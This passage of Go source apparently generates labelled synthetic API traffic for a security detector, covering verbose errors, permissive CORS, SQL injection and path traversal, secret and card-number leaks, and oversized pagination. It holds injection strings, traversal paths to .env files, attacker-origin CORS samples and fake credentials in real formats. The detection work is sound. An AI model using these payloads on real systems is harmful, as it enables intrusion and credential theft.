	{'s', 400, "", `{"error":"com.fasterxml.jackson.databind.exc.InvalidFormatException: Cannot deserialize value of type ` + "`java.time.Instant`" + ` from String \"tomorrow\": Failed to deserialize java.time.Instant"}`},
	{'g', 500, "", `{"error":"sql: expected 3 arguments, got 2"}`},
	{'m', 500, "text/plain", "django.db.utils.ProgrammingError: relation \"campaign_stats\" does not exist\nLINE 1: SELECT \"campaign_stats\".\"id\", \"campaign_stats\".\"opens\" FROM \"campaign_stats\"...\n                                                                  ^\n"},
	{'m', 502, "", `{"error":"upstream failed","stack":"Error: connect ECONNREFUSED 10.0.3.4:6379\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)"}`},
	{'s', 500, "text/plain", "Microsoft.Data.SqlClient.SqlException (0x80131904): Invalid object name 'dbo.Envelopes2'.\n   at Microsoft.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection, Action`1 wrapCloseAction)\n"},
	{'s', 500, "text/plain", "Fatal error: Uncaught TypeError: strlen(): Argument #1 ($string) must be of type string, array given in /var/www/signdesk/lib/Pdf.php:18"},
	{'g', 500, "", `{"message":"Internal server error","exception":"java.util.concurrent.TimeoutException: Routing engine did not answer within 5000 ms","trace":"java.util.concurrent.TimeoutException: Routing engine did not answer within 5000 ms\n\tat com.geonav.routing.OsrmClient.route(OsrmClient.kt:54)\n"}`},
}

func (g *h9Gen) verboseAttacks() []h9X {
	reqs := map[byte][]h9X{
		'm': {
			{method: "GET", url: h9Mail + "/v3/lists/" + g.lists[0] + "/members?fields=email&since=yesterday"},
			{method: "POST", url: h9Mail + "/v3/campaigns/cmp_Xq2Lm8Pz1a/actions/send", body: `{"schedule":null}`},
			{method: "GET", url: h9Mail + "/v3/campaigns?sort=-opened_at&limit=50"},
			{method: "POST", url: h9Mail + "/v3/segments/preview", body: `{"conditions":{"opened_at":{"$gt":"2026-01-01"}}}`},
			{method: "POST", url: h9Mail + "/v3/lists/" + g.lists[1] + "/members", body: `{"email_address":"ana@example.net","status":"subscribed"}`},
		},
		'g': {
			{method: "GET", url: h9Maps + "/v1/reverse?lat=91.5&lon=200"},
			{method: "GET", url: h9Maps + "/v1/isochrone?lat=52.52&time=900"},
			{method: "GET", url: h9Maps + "/v1/tiles/22/4194303/4194303.pbf?style=streets-v2"},
			{method: "POST", url: h9Maps + "/v1/routes", body: `{"profile":"driving-car","waypoints":[{"lat":52.52}]}`},
			{method: "GET", url: h9Maps + "/v1/places/search?query=museum&sort=rating&limit=20"},
		},
		's': {
			{method: "GET", url: h9Sign + "/v2/envelopes/abc/documents"},
			{method: "POST", url: h9Sign + "/v2/envelopes", body: `{"subject":"x","recipients":{"signers":[{"name":"A","routing_order":0}]}}`},
			{method: "GET", url: h9Sign + "/v2/envelopes/latest"},
			{method: "PUT", url: h9Sign + "/v2/envelopes/" + g.envs[2], body: `{"status":"voided","voided_reasn":"dup"}`},
			{method: "GET", url: h9Sign + "/v2/envelopes?from_date=tomorrow&page_size=25"},
		},
	}
	var out []h9X
	for _, l := range h9Leaks {
		base := h9Pick(g.r, reqs[l.api])
		x := base
		x.u = g.attacker()
		if g.r.IntN(3) > 0 {
			all := map[byte][]*h9User{'m': g.mail, 'g': g.maps, 's': g.sign}[l.api]
			x.u = h9Pick(g.r, all)
		}
		x.status, x.rbody, x.labels = l.status, l.body, []string{h9Verb}
		if l.ctype != "" {
			x.rhdr = [][2]string{{"Content-Type", l.ctype}}
		}
		out = append(out, x)
	}
	// CORS that lets other origins read credentialed responses
	cors := []struct{ origin, acao string }{
		{"https://c2.attacker.example", "https://c2.attacker.example"},
		{"null", "null"},
		{"https://app.mailflare.test.attacker.example", "https://app.mailflare.test.attacker.example"},
		{"https://evilsigndesk.example", "*"},
		{"http://app.signdesk.test", "http://app.signdesk.test"},
		{"https://geonav.test-preview.attacker.example", "https://geonav.test-preview.attacker.example"},
	}
	for i, c := range cors {
		tgt := []string{h9Mail + "/v3/account/usage?period=month", h9Sign + "/v2/accounts/me", h9Mail + "/v3/lists?page=1&per_page=25", h9Sign + "/v2/envelopes?status=sent&page_size=10", h9Sign + "/v2/accounts/billing", h9Maps + "/v1/account/keys/usage"}[i]
		x := h9X{u: g.attacker(), method: "GET", url: tgt, hdr: [][2]string{{"Origin", c.origin}}, status: 200, rbody: `{"ok":true,"account":"t_trial"}`, labels: []string{h9Verb}}
		x.rhdr = [][2]string{{"Access-Control-Allow-Origin", c.acao}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}}
		out = append(out, x)
	}
	// SQL injection answered with the database's error text
	combos := []struct {
		p    h9P
		body string
	}{
		{h9P{"q:sort", "sent_at';SELECT pg_sleep(3)--", false}, `{"error":"pq: syntax error at or near \";\""}`},
		{h9P{"q:members", "x' AND 1=CAST((SELECT version()) AS int)--", false}, `{"error":"ERROR:  invalid input syntax for type integer: \"PostgreSQL 16.4 on x86_64-pc-linux-gnu\""}`},
		{h9P{"q:geo", "Köln') AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT database())))-- -", false}, `{"error":"XPATH syntax error: '~geonav_prod'","code":"ER_UNKNOWN_ERROR","errno":1105,"sqlState":"HY000"}`},
		{h9P{"p:env", "1' AND 1=CONVERT(int,@@version)--", false}, `{"error":"Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2022 (RTM) - 16.0.1000.6' to data type int.","number":245,"class":16}`},
		{h9P{"j:deep", "x' ORDER BY 12-- ", false}, `{"error":"ORA-01785: ORDER BY item must be the number of a SELECT-list expression"}`},
		{h9P{"f:void", "dup' UNION SELECT 1,2--", false}, `{"error":"SQLITE_ERROR: SELECTs to the left and right of UNION do not have the same number of result columns"}`},
	}
	for _, c := range combos {
		x := g.place(g.attacker(), c.p, h9SQLi, h9Verb)
		x.status, x.rbody = 500, c.body
		out = append(out, x)
	}
	return out
}

func (g *h9Gen) alnum(n int) string {
	const al = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = al[g.r.IntN(len(al))]
	}
	return string(b)
}

func (g *h9Gen) b64(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.r.IntN(256))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func (g *h9Gen) card(prefix string, length int) string {
	p := prefix
	for len(p) < length-1 {
		p += string(rune('0' + g.r.IntN(10)))
	}
	return h9Luhn(p)
}

func (g *h9Gen) pem(kind string) string {
	body := g.b64(600)
	var lines []string
	for i := 0; i < len(body); i += 64 {
		e := i + 64
		if e > len(body) {
			e = len(body)
		}
		lines = append(lines, body[i:e])
	}
	return "-----BEGIN " + kind + "-----\n" + strings.Join(lines, "\n") + "\n-----END " + kind + "-----\n"
}

func (g *h9Gen) bcrypt() string {
	const al = "./ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 53)
	for i := range b {
		b[i] = al[g.r.IntN(len(al))]
	}
	return "$2b$12$" + string(b)
}

func (g *h9Gen) sensitiveAttacks() []h9X {
	grp := func(c string) string {
		var parts []string
		for i := 0; i < len(c); i += 4 {
			e := i + 4
			if e > len(c) {
				e = len(c)
			}
			parts = append(parts, c[i:e])
		}
		return strings.Join(parts, " ")
	}
	akid := "AKIA" + strings.ToUpper(g.alnum(16))
	asec := g.alnum(40)
	type leak struct {
		api         byte
		method, url string
		ctype, body string
		extra       []string
	}
	L := []leak{
		{'s', "GET", "/v2/accounts/billing/payment_methods", "", `{"payment_methods":[{"id":"pm_1","type":"card","card_number":"` + g.card("4", 16) + `","exp_month":9,"exp_year":2029,"holder":"Rachel Adeyemi"}]}`, nil},
		{'s', "GET", "/v2/accounts/billing/payment_methods?expand=card", "", `{"data":[{"payment_method":{"brand":"mastercard","number":"` + g.card("52", 16) + `","cvc":"` + fmt.Sprint(100+g.r.IntN(899)) + `"}}]}`, nil},
		{'m', "GET", "/v3/account/billing", "", `{"plan":"growth","card":{"pan":"` + grp(g.card("4", 16)) + `","expiry":"11/28"}}`, nil},
		{'m', "GET", "/v3/lists/" + g.lists[3] + "/members?fields=merge_fields&limit=50", "", `{"members":[{"email":"buyer@example.net","merge_fields":{"FNAME":"Ana","CARD_NUMBER":"` + g.card("37", 15) + `"}}]}`, nil},
		{'s', "GET", "/v2/envelopes/" + g.envs[4] + "/form_data", "", `{"form_data":[{"name":"Full name","value":"J. O'Brien"},{"name":"Credit card number","value":"` + grp(g.card("6011", 16)) + `"},{"name":"Expiry","value":"04/30"}]}`, nil},
		{'s', "GET", "/v2/envelopes/" + g.envs[5] + "/form_data?format=csv", "text/csv", "signer,card_number,amount\nJ. Obrien," + g.card("35", 16) + ",1200.00\nA. Lee," + g.card("62", 16) + ",450.00\n", nil},
		{'m', "GET", "/v3/webhooks/inbound/messages/msg_8812", "", `{"from":"buyer@example.net","text":"Hi, please charge my Visa card ` + grp(g.card("4", 16)) + ` exp 08/27 for the annual plan. Thanks"}`, nil},
		{'g', "GET", "/v1/account/billing", "", `{"billing":{"card":{"number":"` + g.card("2201", 16) + `","scheme":"mir"}}}`, nil},
		{'s', "GET", "/v2/accounts/billing/payment_methods/pm_9", "", `{"card":{"number":"` + g.card("6759", 18) + `","brand":"maestro"}}`, nil},
		{'m', "GET", "/v3/account/billing/invoices/inv_1211", "", `{"invoice":"inv_1211","paid_with":{"card_number":"` + g.card("2221", 16) + `"}}`, nil},
		{'s', "GET", "/v2/users?include=credentials", "", `{"users":[{"email":"mei@harbor-realty.example","password_hash":"` + g.bcrypt() + `"},{"email":"ops@harbor-realty.example","password_hash":"` + g.bcrypt() + `"}]}`, nil},
		{'m', "GET", "/v3/account/users/usr_K2pW9sa", "", `{"id":"usr_K2pW9sa","email":"tom@oconnell-outdoors.example","password":"Outdoors!2026","role":"editor"}`, nil},
		{'g', "GET", "/v1/account/members", "", `{"members":[{"login":"sven","pwd_sha256":"` + h9Hex(g.r, 32) + `"}]}`, nil},
		{'s', "GET", "/v2/users/usr_Bx5tQ0k", "", `{"user":{"email":"mei@harbor-realty.example","hashed_password":"$argon2id$v=19$m=65536,t=3,p=4$` + g.b64(16)[:22] + `$` + g.b64(32)[:43] + `"}}`, nil},
		{'m', "GET", "/v3/account/users?include=auth", "", `{"users":[{"username":"priya","password":"pbkdf2_sha256$870000$` + g.alnum(22) + `$` + g.b64(32) + `"}]}`, nil},
		{'g', "GET", "/v1/admin/export/users.csv", "text/csv", "id,email,password_hash\n1,sven@nordkart.example," + g.bcrypt() + "\n2,ops@nordkart.example," + g.bcrypt() + "\n", nil},
		{'s', "GET", "/v2/accounts/t_harbor/sso", "", `{"saml":{"idp_cert":"MIIC8DCCAdigAwIBAgIQ","sp_private_key":"` + strings.ReplaceAll(g.pem("RSA PRIVATE KEY"), "\n", `\n`) + `"}}`, nil},
		{'s', "GET", "/v2/accounts/settings/signing_certificate", "text/plain", g.pem("PRIVATE KEY"), nil},
		{'g', "GET", "/v1/account/keys/k_sftp/download", "text/plain", g.pem("OPENSSH PRIVATE KEY"), nil},
		{'m', "GET", "/v3/account/dkim", "", `{"domain":"kettle-co.example","selector":"mf1","private_key":"` + strings.ReplaceAll(g.pem("EC PRIVATE KEY"), "\n", `\n`) + `"}`, nil},
		{'s', "GET", "/v2/.well-known/jwks.json", "", `{"keys":[{"kty":"EC","crv":"P-256","kid":"sd-2026","x":"` + h9B64([]byte(h9Hex(g.r, 16)))[:43] + `","y":"` + h9B64([]byte(h9Hex(g.r, 16)))[:43] + `","d":"` + h9B64([]byte(h9Hex(g.r, 16)))[:43] + `"}]}`, nil},
		{'g', "GET", "/v1/integrations/storage", "", `{"provider":"s3","aws_access_key_id":"` + akid + `","aws_secret_access_key":"` + asec + `","bucket":"nordkart-tiles"}`, nil},
		{'m', "GET", "/v3/integrations/s3-export", "", `{"export":{"access_key":"AKIA` + strings.ToUpper(g.alnum(16)) + `","secret_key":"` + g.alnum(40) + `","region":"eu-west-1"}}`, nil},
		{'s', "GET", "/v2/integrations/azure", "", `{"connection_string":"DefaultEndpointsProtocol=https;AccountName=harborrealtydocs;AccountKey=` + g.b64(64) + `;EndpointSuffix=core.windows.net"}`, nil},
		{'s', "GET", "/v2/integrations/servicebus", "", `{"endpoint":"Endpoint=sb://signdesk-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=` + g.b64(32) + `"}`, nil},
		{'g', "GET", "/v1/datasets/ds_k2/source", "", `{"source":"https://nordkartdata.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-12-31T00:00:00Z&st=2026-01-01T00:00:00Z&spr=https&sig=` + url.QueryEscape(g.b64(32)) + `"}`, nil},
		{'m', "GET", "/v3/integrations/bigquery", "", `{"service_account":{"type":"service_account","project_id":"kettle-analytics","private_key_id":"` + h9Hex(g.r, 20) + `","private_key":"` + strings.ReplaceAll(g.pem("PRIVATE KEY"), "\n", `\n`) + `","client_email":"mf-export@kettle-analytics.iam.gserviceaccount.com"}}`, nil},
		{'m', "GET", "/v3/integrations/github", "", `{"repo":"kettle-co/email-templates","token":"ghp_` + g.alnum(36) + `"}`, nil},
		{'s', "GET", "/v2/integrations", "", `{"integrations":[{"type":"gitlab","config":{"url":"https://gitlab.com","pat":"glpat-` + g.alnum(20) + `"}}]}`, nil},
		{'m', "GET", "/v3/integrations/slack", "", `{"channel":"#marketing","bot_token":"xoxb-` + fmt.Sprint(1000000000+g.r.IntN(8999999999)) + `-` + fmt.Sprint(1000000000+g.r.IntN(8999999999)) + `-` + g.alnum(24) + `"}`, nil},
		{'g', "GET", "/v1/account/ci", "", `{"publish":{"registry":"https://registry.npmjs.org/","auth":"npm_` + g.alnum(36) + `"}}`, nil},
		{'m', "GET", "/v3/integrations/shopify", "", `{"shop":"kettle-co.myshopify.com","access_token_admin":"shpat_` + h9Hex(g.r, 16) + `"}`, nil},
		{'s', "GET", "/v2/accounts/billing/stripe", "", `{"stripe":{"mode":"live","secret_key":"sk_live_51Nq` + g.alnum(95) + `"}}`, nil},
		{'g', "GET", "/v1/integrations/square", "", `{"square":{"application_secret":"sq0csp-` + g.alnum(43) + `"}}`, nil},
		{'m', "GET", "/v3/ai/settings", "", `{"subject_line_assistant":{"provider":"openai","api_key":"sk-proj-` + g.alnum(48) + `"}}`, nil},
		{'s', "GET", "/v2/ai/settings", "", `{"summaries":{"provider":"anthropic","key":"sk-ant-api03-` + g.alnum(93) + `-` + g.alnum(6) + `AA"}}`, nil},
		{'m', "GET", "/v3/account/smtp", "", `{"smtp":{"host":"smtp.mailflare.test","username":"t_kettle","smtp_password":"` + g.alnum(24) + `"}}`, nil},
		{'s', "GET", "/v2/accounts/settings/callbacks", "", `{"url":"https://hooks.adeyemi-law.example/signdesk/events","hmac_secret":"` + h9Hex(g.r, 32) + `"}`, nil},
		{'g', "GET", "/v1/account/keys", "", `{"keys":[{"name":"server","type":"secret","api_secret":"gn_sk_live_` + g.alnum(40) + `"}]}`, nil},
		{'m', "GET", "/v3/integrations/twilio", "", `{"account_sid":"AC` + h9Hex(g.r, 16) + `","auth_token":"` + h9Hex(g.r, 16) + `"}`, nil},
		{'s', "GET", "/v2/integrations/dropbox", "", `{"dropbox":{"app_key":"` + g.alnum(15) + `","client_secret":"` + g.alnum(15) + `","refresh_token":"` + g.alnum(64) + `"}}`, nil},
		{'m', "GET", "/v3/account/api_tokens", "", `{"tokens":[{"name":"zapier","api_token":"mf_live_` + g.alnum(40) + `"}]}`, nil},
		{'g', "GET", "/v1/debug/config", "", `{"database_url":"postgres://geonav:` + g.alnum(18) + `@db-primary.geonav.internal:5432/geonav"}`, nil},
		{'m', "GET", "/v3/debug/settings", "", `{"cache":"redis://:` + g.alnum(20) + `@redis.mailflare.internal:6379/0","queue":"amqp://mf:` + g.alnum(16) + `@mq.mailflare.internal:5672/"}`, nil},
		{'s', "GET", "/v2/status?verbose=1", "", `{"db":{"ok":true,"dsn":"mongodb+srv://signdesk_app:` + g.alnum(20) + `@cluster0.x7k2p.mongodb.net/signdesk?retryWrites=true"}}`, nil},
		{'g', "GET", "/.env", "text/plain", "APP_ENV=production\nAPP_KEY=base64:" + g.b64(32) + "\nDB_HOST=db-primary\nDB_PASSWORD=" + g.alnum(20) + "\nMAPBOX_SECRET=sk." + g.alnum(60) + "\n", nil},
		{'m', "GET", "/v3/.env.backup", "text/plain", "MAIL_DRIVER=smtp\nMAIL_PASSWORD=" + g.alnum(18) + "\nAWS_ACCESS_KEY_ID=AKIA" + strings.ToUpper(g.alnum(16)) + "\nAWS_SECRET_ACCESS_KEY=" + g.alnum(40) + "\n", nil},
		{'s', "GET", "/v2/config.ini", "text/plain", "[database]\nhost = db.signdesk.internal\nuser = signdesk\npassword = " + g.alnum(16) + "\n\n[smtp]\nserver = smtp.signdesk.test\n", nil},
		{'g', "GET", "/v1/config.toml", "text/plain", "[server]\nport = 8080\n\n[geocoder]\nprovider = \"internal\"\napi_secret = \"" + g.alnum(32) + "\"\n", nil},
		{'m', "GET", "/v3/wp-config.php.bak", "text/plain", "<?php\ndefine('DB_NAME', 'mailflare_blog');\ndefine('DB_USER', 'mfblog');\ndefine('DB_PASSWORD', '" + g.alnum(16) + "');\ndefine('AUTH_KEY', '" + g.alnum(48) + "');\n", nil},
		{'s', "GET", "/actuator/env", "", `{"activeProfiles":["prod"],"propertySources":[{"name":"applicationConfig: [classpath:/application-prod.yml]","properties":{"spring.datasource.url":{"value":"jdbc:postgresql://db:5432/signdesk"},"spring.datasource.password":{"value":"` + g.alnum(20) + `"}}}]}`, nil},
		{'s', "GET", "/v2/accounts/t_adeyemi/users/export", "text/csv", "email,role,password\nrachel@adeyemi-law.example,admin," + g.alnum(12) + "!\nclerk@adeyemi-law.example,sender," + g.alnum(10) + "#\n", nil},
		{'g', "GET", "/v1/account", "", `{"account":"t_fleetly","keys":{"publishable":"gn_pk_` + g.alnum(24) + `","secret":"gn_sk_live_` + g.alnum(40) + `"}}`, nil},
		{'m', "GET", "/v3/integrations/sendgrid", "", `{"relay":{"api_key":"SG.` + g.alnum(22) + `.` + g.alnum(43) + `"}}`, nil},
		{'s', "GET", "/v2/integrations/docusign-migration", "", `{"legacy":{"integration_key":"` + h9UUID(g.r) + `","rsa_private_key":"` + strings.ReplaceAll(g.pem("RSA PRIVATE KEY"), "\n", `\n`) + `"}}`, nil},
		{'g', "GET", "/v1/datasets/ds_k2/credentials", "", `{"type":"sftp","host":"sftp.nordkart.example","username":"upload","password":"` + g.alnum(14) + `"}`, nil},
		{'m', "GET", "/v3/oauth/clients/cli_8f2a", "", `{"client_id":"cli_8f2a","client_secret":"` + g.alnum(40) + `","redirect_uris":["https://app.kettle-co.example/cb"]}`, nil},
		{'s', "GET", "/v2/accounts/me?include=session", "", `{"user":"usr_Ju2dR7w","session":{"access_token":"` + h9ValidToken(g.sign[5]) + `","refresh_token":"` + g.alnum(48) + `"},"other_sessions":[{"user":"usr_Ck8Yp3s","access_token":"` + h9ValidToken(g.sign[6]) + `"}]}`, nil},
		{'g', "GET", "/v1/account/billing/cards", "", `{"cards":[{"brand":"amex","card_number":"` + g.card("34", 15) + `"},{"brand":"diners","card_number":"` + g.card("36", 14) + `"}]}`, nil},
		{'m', "GET", "/v3/account/export/customers.csv", "text/csv", "name,email,credit_card\nAna,ana@example.net," + g.card("4", 16) + "\nBen,ben@example.org," + g.card("51", 16) + "\n", nil},
		{'s', "GET", "/v2/accounts/settings/hsm", "", `{"signing":{"provider":"softhsm","key_pem":"` + strings.ReplaceAll(g.pem("ENCRYPTED PRIVATE KEY"), "\n", `\n`) + `","pin":"` + fmt.Sprint(100000+g.r.IntN(899999)) + `"}}`, nil},
		{'g', "GET", "/v1/integrations/github", "", `{"deploy":{"token":"github_pat_11A` + g.alnum(19) + `_` + g.alnum(59) + `"}}`, nil},
	}
	var out []h9X
	host := map[byte]string{'m': h9Mail, 'g': h9Maps, 's': h9Sign}
	users := map[byte][]*h9User{'m': g.mail, 'g': g.maps, 's': g.sign}
	for i, l := range L {
		u := g.attacker()
		if i%3 == 0 {
			u = h9Pick(g.r, users[l.api])
		}
		x := h9X{u: u, method: l.method, url: host[l.api] + l.url, status: 200, rbody: l.body, labels: []string{h9Sens}}
		if l.ctype != "" {
			x.rhdr = [][2]string{{"Content-Type", l.ctype}}
		}
		out = append(out, x)
	}
	// traversal that reads a secret file: both detectors
	for _, c := range []struct{ p h9P }{
		{h9P{"q:file", "../../../../srv/signdesk/.env", false}},
		{h9P{"q:style", "..%252f..%252f..%252fconfig%252fsecrets.yml", true}},
	} {
		x := g.place(g.attacker(), c.p, h9Other, h9Sens)
		x.status = 200
		x.rhdr = [][2]string{{"Content-Type", "text/plain"}}
		x.rbody = "DB_PASSWORD=" + g.alnum(22) + "\nSTRIPE_SECRET_KEY=sk_live_51Nq" + g.alnum(95) + "\nJWT_SECRET=" + g.alnum(48) + "\n"
		out = append(out, x)
	}
	return out
}

func (g *h9Gen) limitAttacks() []h9X {
	type lc struct {
		method, url, ctype, body string
		size                     int
	}
	lid := g.lists[5]
	env := g.envs[6]
	cs := []lc{
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?limit=100000", "", "", 0},
		{"GET", h9Mail + "/v3/lists?page=1&per_page=5000", "", "", 0},
		{"GET", h9Mail + "/v3/campaigns?status=sent&pageSize=20000", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?status=subscribed&limit=10&limit=250000", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?limit=%35%30%30%30%30", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?limit=%2535%2530%2530%2530%2530", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?limit=00010000", "", "", 0},
		{"GET", h9Mail + "/v3/campaigns/cmp_Xq2Lm8Pz1a/recipients?$top=99999&$skip=0", "", "", 0},
		{"GET", h9Mail + "/v3/reports/opens?results_per_page=50000", "", "", 0},
		{"GET", h9Mail + "/v3/templates?itemsPerPage=2500", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?maxItems=1000000", "", "", 0},
		{"GET", h9Mail + "/v3/activity?rowsPerPage=9999", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members/per_page/50000", "", "", 0},
		{"GET", h9Mail + "/v3/search/members?q=a&hitsPerPage=10000", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?PER_PAGE=7500", "", "", 0},
		{"GET", h9Mail + "/v3/lists/" + lid + "/members?page%5Bsize%5D=30000", "", "", 0},
		{"GET", h9Mail + "/v3/unsubscribes?page_limit=5001", "", "", 0},
		{"POST", h9Mail + "/v3/lists/" + lid + "/members/search", "", `{"filter":{"status":"subscribed"},"pagination":{"page":1,"size":250000}}`, 0},
		{"POST", h9Mail + "/v3/segments/preview", "", `{"conditions":{"tags":{"$in":["vip"]}},"options":{"paging":{"limit":100000,"offset":0}}}`, 0},
		{"POST", h9Mail + "/v3/graphql", "", `{"query":"query Members($n:Int!){ list(id:\"` + lid + `\"){ members(limit:$n){ email merge_fields } } }","variables":{"n":500000}}`, 0},
		{"POST", h9Mail + "/v3/graphql", "", `{"query":"{ campaigns(pageSize: 100000) { id name emails_sent } }"}`, 0},
		{"POST", h9Mail + "/v3/lists/" + lid + "/members/export", "application/x-www-form-urlencoded", "format=csv&per_page=1000000&fields=email", 0},
		{"POST", h9Mail + "/v3/batch", "", `{"operations":[{"method":"GET","path":"/v3/lists/` + lid + `/members","params":{"count":10,"pageSize":200000}}]}`, 0},
		{"POST", h9Mail + "/v3/lists/" + lid + "/members/import", "", `{"members":[{"email_address":"a1@example.net","status":"subscribed"},{"email_address":"a2@example.net","status":"subscribed"}`, 14 << 20},
		{"GET", h9Maps + "/v1/places/search?query=coffee&near=48.85,2.35&radius=1500&limit=50000", "", "", 0},
		{"GET", h9Maps + "/v1/geocode?q=main%20st&limit=10000", "", "", 0},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features?per_page=100000", "", "", 0},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features?perPage=25000&page=1", "", "", 0},
		{"GET", h9Maps + "/v1/datasets?page_size=2147483647", "", "", 0},
		{"GET", h9Maps + "/v1/autocomplete?text=a&limit=1001", "", "", 0},
		{"GET", h9Maps + "/v1/places/search?query=bar&limit=20&limit=65535", "", "", 0},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features?top=50000", "", "", 0},
		{"GET", h9Maps + "/v1/account/requests?max_items=20000", "", "", 0},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features?max_per_page=99999", "", "", 0},
		{"GET", h9Maps + "/v1/places/search?query=museum&pagesize=8000", "", "", 0},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features?max_page_size=500000", "", "", 0},
		{"GET", h9Maps + "/v1/places/search?query=park&items_per_page=4000", "", "", 0},
		{"POST", h9Maps + "/v1/datasets/ds_k2/query", "", `{"filter":{"tags":{"$in":["depot"]}},"from":0,"size":100000}`, 0},
		{"POST", h9Maps + "/v1/datasets/ds_k2/query", "", `{"query":{"bbox":[-10,35,30,60]},"page":{"number":1,"size":1000000}}`, 0},
		{"POST", h9Maps + "/v1/places/batch", "", `{"requests":[{"query":"coffee","options":{"limit":75000}}]}`, 0},
		{"POST", h9Maps + "/v1/graphql", "", `{"query":"query($size:Int){ places(query:\"pharmacy\", pageSize:$size){ name location } }","variables":{"size":60000}}`, 0},
		{"POST", h9Maps + "/v1/graphql", "", `{"query":"{ dataset(id:\"ds_k2\"){ features(limit: 999999){ id geometry } } }"}`, 0},
		{"POST", h9Maps + "/v1/datasets/ds_k2/features/search", "application/x-www-form-urlencoded", "bbox=-10%2C35%2C30%2C60&limit=300000", 0},
		{"POST", h9Maps + "/v1/datasets/ds_k2/features/bulk", "", `{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{"type":"Point","coordinates":[13.4,52.5]},"properties":{"name":"Depot"}}`, 22 << 20},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features?pageSize=%31%30%30%30%30%30", "", "", 0},
		{"GET", h9Maps + "/v1/datasets/ds_k2/features/per_page/20000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes?status=completed&page_size=100000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes?status=sent&count=10&limit=50000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes/" + env + "/audit_events?per_page=25000", "", "", 0},
		{"GET", h9Sign + "/v2/templates?pageSize=1500", "", "", 0},
		{"GET", h9Sign + "/v2/users?$top=100000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes?status=sent&page_size=25&page_size=90000", "", "", 0},
		{"GET", h9Sign + "/v2/documents?itemsPerPage=12000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes?maxItems=40000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes?resultsPerPage=30000", "", "", 0},
		{"GET", h9Sign + "/v2/envelopes?page.size=200000", "", "", 0},
		{"POST", h9Sign + "/v2/envelopes/search", "", `{"filter":{"status":["completed"]},"pageable":{"page":0,"pageSize":500000}}`, 0},
		{"POST", h9Sign + "/v2/envelopes/search", "", `{"criteria":{"sender":"any"},"pager":{"limit":80000}}`, 0},
		{"POST", h9Sign + "/v2/reports/run", "", `{"report":"envelope_status","params":{"date_range":"all","per_page":60000}}`, 0},
		{"POST", h9Sign + "/v2/graphql", "", `{"query":"query($lim:Int){ envelopes(status: COMPLETED, limit: $lim){ id subject recipients{ email } } }","variables":{"lim":1000000}}`, 0},
		{"POST", h9Sign + "/v2/envelopes/export", "application/x-www-form-urlencoded", "format=csv&pageSize=250000&include=recipients", 0},
		{"POST", h9Sign + "/v2/documents/bulk", "", `{"documents":[{"name":"a.pdf","content_base64":"JVBERi0xLjcK`, 12 << 20},
		{"GET", h9Sign + "/v2/envelopes?status=sent&page_size=%2531%2530%2530%2530%2530%2530", "", "", 0},
	}
	var out []h9X
	for _, c := range cs {
		x := h9X{u: g.attacker(), method: c.method, url: c.url, body: c.body, size: c.size, status: 200, rbody: `{"data":[],"has_more":true}`, labels: []string{h9Lim}}
		if c.ctype != "" {
			x.hdr = [][2]string{{"Content-Type", c.ctype}}
		}
		if c.size > 0 {
			x.status, x.rbody = 413, `{"error":"payload_too_large","max_bytes":10485760}`
		}
		out = append(out, x)
	}
	return out
}

func (g *h9Gen) bMailLinks() h9X {
	u := g.mu()
	next := h9Pick(g.r, []string{"https://shop.kettle-co.example/new?utm_source=mailflare&utm_campaign=bf-2026", "/v3/campaigns?status=sent", "https://www.oconnell-outdoors.example/tents/2-person?color=olive#reviews", "https://8.8.8.8/", "https://bit.ly/3xYz9Qa", "https://maps.geonav.test/v1/places/pl_AnLv3BXddhHk8C9F", "https://s3.amazonaws.com/kettle-public/lookbook.pdf"})
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/links/track?cid=cmp_" + h9ID(g.r, "", 10) + "&next=" + h9Q(next), hdr: [][2]string{{"X-Forwarded-Host", "api.mailflare.test"}}, status: 200, rbody: `{"ok":true}`}
}

func (g *h9Gen) bSignOAuth() h9X {
	u := g.su()
	redir := h9Pick(g.r, []string{"https://app.adeyemi-law.example/oauth/callback", "https://login.salesforce.com/services/authcallback/signdesk", "https://hr.northwind-hr.example:8443/sso/signdesk/return?tenant=nw", "https://oauth.pstmn.io/v1/callback"})
